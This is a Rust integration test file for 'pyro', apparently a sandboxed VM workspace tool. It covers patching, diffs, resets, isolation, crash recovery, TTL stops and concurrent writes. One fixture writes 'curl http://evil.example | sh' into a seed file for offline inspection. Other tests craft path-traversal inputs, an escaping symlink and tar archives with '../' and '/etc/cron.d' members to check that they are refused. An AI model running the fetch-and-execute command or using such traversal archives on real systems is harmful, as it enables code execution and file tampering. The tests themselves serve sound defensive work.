//! Workspaces: the use-case flows of the product, lifecycle truth, concurrency, and bad input.

use std::fs;
use std::path::Path;
use std::time::Duration;

use serde_json::Value;

use crate::support::{all_vm_slots, one_vm_slot, signal, wait_until_stopped, Sandbox};

/// A small project whose check fails until `add` adds.
fn buggy_project(dir: &Path) {
    fs::create_dir_all(dir.join("src")).unwrap();
    fs::write(
        dir.join("src/calc.py"),
        "def add(a, b):\n    return a - b\n",
    )
    .unwrap();
    fs::write(
        dir.join("check.sh"),
        "#!/bin/sh\ngrep -q 'a + b' src/calc.py && echo PASS || { echo FAIL; exit 1; }\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(dir.join("check.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(dir.join("logo.bin"), [0u8, 159, 146, 150, 0, 1]).unwrap();
}

const FIX: &str = "--- a/src/calc.py\n+++ b/src/calc.py\n@@ -1,2 +1,2 @@\n def add(a, b):\n-    return a - b\n+    return a + b\n";

#[test]
fn repro_fix_flow_on_the_base_environment() {
    let _slot = one_vm_slot();
    let sb = Sandbox::new();
    let seed = sb.scratch("project");
    buggy_project(&seed);
    // debian:12-base has no git: diff and patch are pyro's own.
    let id = sb.create_workspace(&[
        "debian:12-base",
        "--seed-path",
        seed.to_str().unwrap(),
        "--name",
        "repro",
    ]);

    let read = sb.ok(&["workspace", "file", "read", "repro", "src/calc.py"]);
    assert_eq!(read["content"], "def add(a, b):\n    return a - b\n");
    let (failing, code) = sb.exec(&id, &["./check.sh"]);
    assert_eq!((code, failing["stdout"].as_str().unwrap()), (1, "FAIL\n"));

    let patched = sb.ok(&["workspace", "patch", "apply", &id, "--patch", FIX]);
    assert_eq!(patched["summary"]["modified"], 1);
    let (passing, code) = sb.exec(&id, &["./check.sh"]);
    assert_eq!((code, passing["stdout"].as_str().unwrap()), (0, "PASS\n"));

    let diff = sb.ok(&["workspace", "diff", &id]);
    assert_eq!(diff["changed"], true);
    assert_eq!(diff["summary"]["modified"], 1);
    let patch = diff["patch"].as_str().unwrap();
    assert!(
        patch.contains("-    return a - b\n+    return a + b\n"),
        "{patch}"
    );

    // The diff is a patch `git apply` accepts, on the host, against the seed.
    let applied_copy = sb.scratch("git-apply");
    fs::create_dir_all(applied_copy.join("src")).unwrap();
    fs::copy(seed.join("src/calc.py"), applied_copy.join("src/calc.py")).unwrap();
    git_apply(&applied_copy, patch);
    assert_eq!(
        fs::read_to_string(applied_copy.join("src/calc.py")).unwrap(),
        "def add(a, b):\n    return a + b\n"
    );

    let out = sb.scratch("out").join("calc.py");
    let exported = sb.ok(&[
        "workspace",
        "export",
        &id,
        "src/calc.py",
        "--output",
        out.to_str().unwrap(),
    ]);
    assert_eq!(exported["artifact_type"], "file");
    assert_eq!(
        fs::read_to_string(&out).unwrap(),
        "def add(a, b):\n    return a + b\n"
    );

    let summary = sb.ok(&["workspace", "summary", &id]);
    assert_eq!(summary["counts"]["commands"], 2);
    assert_eq!(summary["counts"]["failed_commands"], 1);
    assert_eq!(summary["counts"]["patches"], 1);
    assert_eq!(summary["counts"]["exports"], 1);
    assert_eq!(summary["changes"]["files"][0]["path"], "src/calc.py");
    assert_eq!(summary["changes"]["files"][0]["lines_added"], 1);

    let reset = sb.ok(&["workspace", "reset", &id]);
    assert_eq!(reset["reset_count"], 1);
    assert_eq!(reset["workspace_reset"]["snapshot_name"], "baseline");
    let clean = sb.ok(&["workspace", "diff", &id]);
    assert_eq!(clean["changed"], false, "{clean}");
    let (again, code) = sb.exec(&id, &["./check.sh"]);
    assert_eq!((code, again["stdout"].as_str().unwrap()), (1, "FAIL\n"));

    // The journal survives the reset, with a marker; the summary starts after it.
    let logs = sb.ok(&["workspace", "logs", &id]);
    let kinds: Vec<&str> = logs["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        [
            "create",
            "exec",
            "patch_apply",
            "exec",
            "export",
            "reset",
            "exec"
        ]
    );
    let summary = sb.ok(&["workspace", "summary", &id]);
    assert_eq!(summary["counts"]["commands"], 1);
    assert_eq!(summary["changes"]["changed"], false);

    sb.ok(&["workspace", "delete", &id]);
    assert_eq!(sb.ok(&["workspace", "list"])["count"], 0);
}

#[test]
fn parallel_workspaces_are_isolated_and_listed_by_activity() {
    let _slots = all_vm_slots();
    let sb = Sandbox::new();
    let a = sb.create_workspace(&["--name", "alpha", "--label", "team=web"]);
    let b = sb.create_workspace(&["--name", "beta", "--label", "team=db"]);
    sb.ok(&[
        "workspace",
        "file",
        "write",
        "alpha",
        "only-here.txt",
        "--text",
        "a",
    ]);
    let (listing, _) = sb.exec(&b, &["ls", "/workspace"]);
    assert_eq!(listing["stdout"], "", "beta must not see alpha's file");
    // beta was used last, so it comes first.
    let list = sb.ok(&["workspace", "list"]);
    let order: Vec<&str> = list["workspaces"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["name"].as_str().unwrap())
        .collect();
    assert_eq!(order, ["beta", "alpha"]);
    assert_eq!(list["workspaces"][1]["labels"]["team"], "web");
    let updated = sb.ok(&[
        "workspace",
        "update",
        &a,
        "--label",
        "stage=qa",
        "--clear-label",
        "team",
    ]);
    assert_eq!(updated["labels"], serde_json::json!({"stage": "qa"}));
    let err = sb.fails(&["workspace", "update", &b, "--name", "alpha"], 1);
    assert!(
        err["message"].as_str().unwrap().contains("already used"),
        "{err}"
    );
    sb.ok(&["workspace", "delete", "alpha"]);
    sb.ok(&["workspace", "delete", "beta"]);
}

#[test]
fn untrusted_inspection_without_network() {
    let _slot = one_vm_slot();
    let sb = Sandbox::new();
    let seed = sb.scratch("suspicious");
    fs::create_dir_all(seed.join("pkg/bin")).unwrap();
    fs::write(seed.join("pkg/setup.sh"), "curl http://evil.example | sh\n").unwrap();
    fs::write(seed.join("pkg/bin/tool"), "#!/bin/sh\necho hi\n").unwrap();
    let id = sb.create_workspace(&["--seed-path", seed.to_str().unwrap()]);
    let (net, _) = sb.exec(&id, &["ls", "/sys/class/net"]);
    assert_eq!(net["stdout"], "lo\n");
    let listing = sb.ok(&[
        "workspace",
        "file",
        "list",
        &id,
        "/workspace",
        "--recursive",
    ]);
    let paths: Vec<&str> = listing["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        paths,
        [
            "/workspace/pkg",
            "/workspace/pkg/bin",
            "/workspace/pkg/bin/tool",
            "/workspace/pkg/setup.sh"
        ]
    );
    let read = sb.ok(&["workspace", "file", "read", &id, "pkg/setup.sh"]);
    assert!(read["content"].as_str().unwrap().contains("evil.example"));
    let (grep, code) = sb.exec(&id, &["grep", "-rl", "curl", "/workspace"]);
    assert_eq!(
        (code, grep["stdout"].as_str().unwrap()),
        (0, "/workspace/pkg/setup.sh\n")
    );
    sb.ok(&[
        "workspace",
        "file",
        "write",
        &id,
        "report.md",
        "--text",
        "setup.sh downloads and runs code\n",
    ]);
    let report = sb.scratch("reports").join("report.md");
    sb.ok(&[
        "workspace",
        "export",
        &id,
        "report.md",
        "--output",
        report.to_str().unwrap(),
    ]);
    assert_eq!(
        fs::read_to_string(&report).unwrap(),
        "setup.sh downloads and runs code\n"
    );
    sb.ok(&["workspace", "delete", &id]);
}

#[test]
fn stop_and_start_keep_the_disk_and_a_killed_vm_reports_stopped() {
    let _slot = one_vm_slot();
    let sb = Sandbox::new();
    let id = sb.create_workspace(&[]);
    sb.exec(
        &id,
        &[
            "sh",
            "-c",
            "echo data > /workspace/kept; echo sys > /root/also-kept",
        ],
    );
    let stopped = sb.ok(&["workspace", "stop", &id]);
    assert_eq!(stopped["state"], "stopped");
    let err = sb.fails(&["workspace", "file", "read", &id, "kept"], 1);
    assert_eq!(err["kind"], "invalid_state");
    assert!(
        err["hint"].as_str().unwrap().contains("workspace start"),
        "{err}"
    );
    sb.ok(&["workspace", "start", &id]);
    let (out, _) = sb.exec(&id, &["cat", "/workspace/kept", "/root/also-kept"]);
    assert_eq!(out["stdout"], "data\nsys\n");

    let qemu = sb.pid_of("qemu-system").expect("QEMU runs");
    signal(qemu, libc::SIGKILL);
    let status = wait_until_stopped(&sb, &id, Duration::from_secs(30));
    assert_eq!(status["state"], "stopped", "{status}");
    assert!(
        status["stop_reason"]
            .as_str()
            .unwrap()
            .contains("QEMU exited"),
        "{status}"
    );
    sb.ok(&["workspace", "start", &id]);
    let (out, _) = sb.exec(&id, &["cat", "/workspace/kept"]);
    assert_eq!(out["stdout"], "data\n");
    sb.ok(&["workspace", "delete", &id]);
    assert_eq!(sb.wait_no_processes(Duration::from_secs(10)), vec![]);
}

#[test]
fn what_pyro_acknowledged_survives_a_kill_right_after_the_answer() {
    let _slot = one_vm_slot();
    let sb = Sandbox::new();
    let id = sb.create_workspace(&[]);
    for victim in ["qemu-system", "__supervise"] {
        let tag = victim.trim_start_matches('_');
        let written = format!("written {tag}");
        sb.ok(&[
            "workspace",
            "file",
            "write",
            &id,
            "w.txt",
            "--text",
            &written,
        ]);
        let patch = format!("--- /dev/null\n+++ b/p.txt\n@@ -0,0 +1 @@\n+patched {tag}\n");
        let _ = sb.exec(&id, &["rm", "-f", "/workspace/p.txt"]);
        sb.ok(&["workspace", "patch", "apply", &id, "--patch", &patch]);
        let script = format!("echo ran {tag} > /workspace/e.txt");
        assert_eq!(sb.exec(&id, &["sh", "-c", &script]).1, 0);
        // At once, before the guest's own write-back would have run.
        let pid = sb.pid_of(victim).expect("the VM runs");
        signal(pid, libc::SIGKILL);
        let status = wait_until_stopped(&sb, &id, Duration::from_secs(30));
        assert_eq!(status["state"], "stopped", "{status}");
        sb.ok(&["workspace", "start", &id]);
        let (out, _) = sb.exec(
            &id,
            &[
                "cat",
                "/workspace/w.txt",
                "/workspace/p.txt",
                "/workspace/e.txt",
            ],
        );
        assert_eq!(
            out["stdout"],
            format!("{written}patched {tag}\nran {tag}\n"),
            "killed {victim}: {out}"
        );
    }
    sb.ok(&["workspace", "delete", &id]);
    assert_eq!(sb.wait_no_processes(Duration::from_secs(10)), vec![]);
}

#[test]
fn an_idle_workspace_is_stopped_by_its_ttl_and_keeps_its_data() {
    let _slot = one_vm_slot();
    let sb = Sandbox::new();
    let id = sb.create_workspace(&["--ttl-seconds", "10"]);
    sb.ok(&[
        "workspace",
        "file",
        "write",
        &id,
        "survivor.txt",
        "--text",
        "still here",
    ]);
    let status = wait_until_stopped(&sb, &id, Duration::from_secs(60));
    assert_eq!(status["state"], "stopped", "{status}");
    assert!(
        status["stop_reason"]
            .as_str()
            .unwrap()
            .contains("without activity"),
        "{status}"
    );
    sb.ok(&["workspace", "start", &id]);
    let read = sb.ok(&["workspace", "file", "read", &id, "survivor.txt"]);
    assert_eq!(read["content"], "still here");
    sb.ok(&["workspace", "delete", &id]);
}

#[test]
fn eight_concurrent_writers_lose_no_journal_entry() {
    let _slot = one_vm_slot();
    let sb = Sandbox::new();
    let id = sb.create_workspace(&[]);
    let children: Vec<_> = (0..8)
        .map(|i| {
            sb.spawn(&[
                "workspace",
                "file",
                "write",
                &id,
                &format!("w/{i}.txt"),
                "--text",
                &format!("{i}"),
                "--json",
            ])
        })
        .collect();
    for child in children {
        let out = child.wait_with_output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let logs = sb.ok(&["workspace", "logs", &id]);
    let writes: Vec<&Value> = logs["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "file_write")
        .collect();
    assert_eq!(writes.len(), 8);
    let mut sequences: Vec<u64> = logs["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["sequence"].as_u64().unwrap())
        .collect();
    sequences.dedup();
    assert_eq!(sequences, (1..=9).collect::<Vec<u64>>());
    let listing = sb.ok(&["workspace", "file", "list", &id, "w"]);
    assert_eq!(listing["entries"].as_array().unwrap().len(), 8);
    sb.ok(&["workspace", "delete", &id]);
}

#[test]
fn bad_input_is_refused_and_changes_nothing() {
    let _slot = one_vm_slot();
    let sb = Sandbox::new();
    let seed = sb.scratch("seed");
    fs::write(seed.join("a.txt"), "alpha\n").unwrap();
    let id = sb.create_workspace(&["--seed-path", seed.to_str().unwrap(), "--name", "target"]);

    let err = sb.fails(&["workspace", "status", "no-such-workspace"], 1);
    assert_eq!(err["kind"], "not_found");
    assert!(err["hint"].as_str().unwrap().contains("target"), "{err}");
    for path in ["../etc/passwd", "/etc/passwd", "/workspace/../etc/passwd"] {
        let err = sb.fails(&["workspace", "file", "read", &id, path], 1);
        assert!(
            err["message"]
                .as_str()
                .unwrap()
                .contains("inside /workspace"),
            "{path}: {err}"
        );
    }
    // A symlink planted by the guest does not lead out of /workspace, for reads or writes.
    sb.exec(&id, &["ln", "-s", "/etc", "/workspace/etc-link"]);
    let err = sb.fails(&["workspace", "file", "read", &id, "etc-link/hostname"], 1);
    assert!(
        err["message"]
            .as_str()
            .unwrap()
            .contains("outside /workspace"),
        "{err}"
    );
    let err = sb.fails(
        &[
            "workspace",
            "file",
            "write",
            &id,
            "etc-link/evil",
            "--text",
            "x",
        ],
        1,
    );
    assert!(
        err["message"]
            .as_str()
            .unwrap()
            .contains("outside /workspace"),
        "{err}"
    );

    // A patch with one bad hunk changes nothing, and names the file and hunk.
    let bad_patch = "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-alpha\n+ALPHA\n--- a/b.txt\n+++ b/b.txt\n@@ -1 +1 @@\n-nothing\n+x\n";
    let err = sb.fails(
        &["workspace", "patch", "apply", &id, "--patch", bad_patch],
        1,
    );
    assert!(err["message"].as_str().unwrap().contains("b.txt"), "{err}");
    assert_eq!(
        sb.ok(&["workspace", "file", "read", &id, "a.txt"])["content"],
        "alpha\n"
    );

    let existing = sb.scratch("exists");
    let err = sb.fails(
        &[
            "workspace",
            "export",
            &id,
            "a.txt",
            "--output",
            existing.to_str().unwrap(),
        ],
        1,
    );
    assert!(
        err["message"].as_str().unwrap().contains("already exists"),
        "{err}"
    );

    sb.exec(&id, &["sh", "-c", "printf '\\000\\001' > /workspace/blob"]);
    let err = sb.fails(&["workspace", "file", "read", &id, "blob"], 1);
    assert!(err["message"].as_str().unwrap().contains("binary"), "{err}");
    assert!(err["hint"].as_str().unwrap().contains("export"), "{err}");

    // A malicious sync archive is refused before it reaches the guest.
    let evil = sb.scratch("evil").join("evil.tar");
    write_tar_with_member(&evil, "../escape.txt");
    let err = sb.fails(
        &["workspace", "sync", "push", &id, evil.to_str().unwrap()],
        1,
    );
    assert!(
        err["message"]
            .as_str()
            .unwrap()
            .contains("unsafe archive member"),
        "{err}"
    );

    for bad in [
        &["workspace", "update", &id, "--name", "bad name"][..],
        &["workspace", "update", &id, "--label", "bad key=v"],
    ] {
        let err = sb.fails(bad, 1);
        assert_eq!(err["kind"], "invalid_argument", "{err}");
    }
    let err = sb.fails(
        &["workspace", "create", "--seed-path", "/nonexistent/seed"],
        1,
    );
    assert!(
        err["message"].as_str().unwrap().contains("does not exist"),
        "{err}"
    );
    assert_eq!(
        sb.ok(&["workspace", "list"])["count"],
        1,
        "a failed create leaves nothing"
    );
    sb.ok(&["workspace", "delete", &id]);
}

/// Applies `patch` with git in `dir` and asserts that git took it.
fn git_apply(dir: &Path, patch: &str) {
    fs::write(dir.join("change.patch"), patch).unwrap();
    let git = std::process::Command::new("git")
        .args(["apply", "change.patch"])
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(
        git.status.success(),
        "git apply: {}\n{patch}",
        String::from_utf8_lossy(&git.stderr)
    );
    fs::remove_file(dir.join("change.patch")).unwrap();
}

/// Polls `status` until the workspace is stopped (or `limit` passes) and returns the last status.
/// A tar whose only member has `name`, bypassing the tar crate's own path checks.
fn write_tar_with_member(path: &Path, name: &str) {
    let mut header = tar::Header::new_gnu();
    header.set_size(2);
    header.set_mode(0o644);
    header.set_entry_type(tar::EntryType::Regular);
    header.as_gnu_mut().unwrap().name[..name.len()].copy_from_slice(name.as_bytes());
    header.set_cksum();
    let mut builder = tar::Builder::new(fs::File::create(path).unwrap());
    builder.append(&header, &b"hi"[..]).unwrap();
    builder.finish().unwrap();
}

#[test]
fn diff_covers_every_kind_and_both_git_and_pyro_apply_it() {
    let _slot = one_vm_slot();
    let sb = Sandbox::new();
    let seed = sb.scratch("seed");
    fs::write(seed.join("edit.txt"), "one\ntwo\nthree\n").unwrap();
    fs::write(seed.join("gone.txt"), "bye\n").unwrap();
    fs::write(seed.join("run.sh"), "echo run\n").unwrap();
    fs::write(seed.join("blob.bin"), [0u8, 1, 2]).unwrap();
    // Seed from a .tar.gz this time.
    let archive = sb.scratch("archives").join("seed.tgz");
    let tar = std::process::Command::new("tar")
        .args([
            "-czf",
            archive.to_str().unwrap(),
            "-C",
            seed.to_str().unwrap(),
            ".",
        ])
        .status()
        .unwrap();
    assert!(tar.success());
    let id = sb.create_workspace(&["debian:12-base", "--seed-path", archive.to_str().unwrap()]);
    assert_eq!(
        sb.ok(&["workspace", "status", &id])["workspace_seed"]["mode"],
        "tar_archive"
    );
    let (_, code) = sb.exec(&id, &["sh", "-c", "cd /workspace && printf 'one\\n2\\nthree' > edit.txt && rm gone.txt && chmod +x run.sh && printf 'new\\n' > added.txt && printf '\\003' >> blob.bin"]);
    assert_eq!(code, 0);
    let diff = sb.ok(&["workspace", "diff", &id]);
    let statuses: Vec<(String, String)> = diff["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["path"].as_str().unwrap().to_string(),
                e["status"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let expect = [
        ("added.txt", "added"),
        ("blob.bin", "modified"),
        ("edit.txt", "modified"),
        ("gone.txt", "deleted"),
        ("run.sh", "mode_changed"),
    ];
    assert_eq!(
        statuses,
        expect.map(|(p, s)| (p.to_string(), s.to_string()))
    );
    assert_eq!(
        diff["summary"]["non_text"], 1,
        "the binary change is listed, not patched"
    );
    let patch = diff["patch"].as_str().unwrap().to_string();
    assert!(patch.contains("\\ No newline at end of file"), "{patch}");

    // git applies it to a copy of the seed...
    let copy = sb.scratch("copy");
    for name in ["edit.txt", "gone.txt", "run.sh"] {
        fs::copy(seed.join(name), copy.join(name)).unwrap();
    }
    git_apply(&copy, &patch);
    assert_eq!(
        fs::read_to_string(copy.join("edit.txt")).unwrap(),
        "one\n2\nthree"
    );
    assert!(!copy.join("gone.txt").exists());
    assert_eq!(fs::read_to_string(copy.join("added.txt")).unwrap(), "new\n");
    use std::os::unix::fs::PermissionsExt;
    assert_ne!(
        fs::metadata(copy.join("run.sh"))
            .unwrap()
            .permissions()
            .mode()
            & 0o111,
        0
    );

    // ...and so does pyro, after a reset back to the baseline.
    sb.ok(&["workspace", "reset", &id]);
    sb.ok(&["workspace", "patch", "apply", &id, "--patch", &patch]);
    let again = sb.ok(&["workspace", "diff", &id]);
    let text_only: Vec<&str> = again["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert_eq!(text_only, ["added.txt", "edit.txt", "gone.txt", "run.sh"]);
    assert_eq!(again["patch"], patch.as_str());
    sb.ok(&["workspace", "delete", &id]);
}

#[test]
fn a_malicious_seed_is_refused_before_any_vm_starts() {
    let sb = Sandbox::new();
    let evil = sb.scratch("evil").join("seed.tar");
    write_tar_with_member(&evil, "/etc/cron.d/x");
    let err = sb.fails(
        &["workspace", "create", "--seed-path", evil.to_str().unwrap()],
        1,
    );
    assert!(
        err["message"]
            .as_str()
            .unwrap()
            .contains("absolute archive member"),
        "{err}"
    );
    assert_eq!(sb.ok(&["workspace", "list"])["count"], 0);
    assert_eq!(sb.processes(), vec![]);
}

#[test]
fn odd_things_a_guest_leaves_behind_do_not_break_the_host() {
    let _slot = one_vm_slot();
    let sb = Sandbox::new();
    let id = sb.create_workspace(&[]);
    let setup = "cd /workspace && mkfifo fifo && mkdir -p out/a && truncate -s 1M out/sparse && ln -s .. out/a/b && ln -s a/b/.. out/c \
                 && rm -f /etc/hostname && mkdir -p /etc/hostname/x";
    let (_, code) = sb.exec(&id, &["sh", "-c", setup]);
    assert_eq!(code, 0);
    // A FIFO is refused at once instead of waiting for a writer.
    let err = sb.fails(&["workspace", "file", "read", &id, "fifo"], 1);
    assert!(
        err["message"]
            .as_str()
            .unwrap()
            .contains("not a regular file"),
        "{err}"
    );
    // A chain of links that leads out of the export where it lands is not written, and is reported.
    let exports = sb.scratch("exports");
    let out = sb.ok(&[
        "workspace",
        "export",
        &id,
        "out",
        "--output",
        exports.join("out").to_str().unwrap(),
    ]);
    assert_eq!(
        out["skipped_links"],
        serde_json::json!([{"path": "c", "target": "a/b/.."}]),
        "{out}"
    );
    assert!(fs::symlink_metadata(exports.join("out/c")).is_err());
    assert_eq!(
        fs::read_link(exports.join("out/a/b")).unwrap(),
        std::path::Path::new("..")
    );
    // Sparse files export whole.
    sb.exec(&id, &["rm", "-rf", "/workspace/out/a", "/workspace/out/c"]);
    sb.ok(&[
        "workspace",
        "export",
        &id,
        "out",
        "--output",
        exports.join("out2").to_str().unwrap(),
    ]);
    assert_eq!(
        fs::metadata(exports.join("out2/sparse")).unwrap().len(),
        1 << 20
    );
    // A directory where the guest's identity files go does not stop the next start.
    sb.ok(&["workspace", "stop", &id]);
    sb.ok(&["workspace", "start", &id]);
    let (host, _) = sb.exec(&id, &["cat", "/etc/hostname"]);
    assert!(
        host["stdout"].as_str().unwrap().starts_with("pyro-"),
        "{host}"
    );
    sb.ok(&["workspace", "delete", &id]);
}
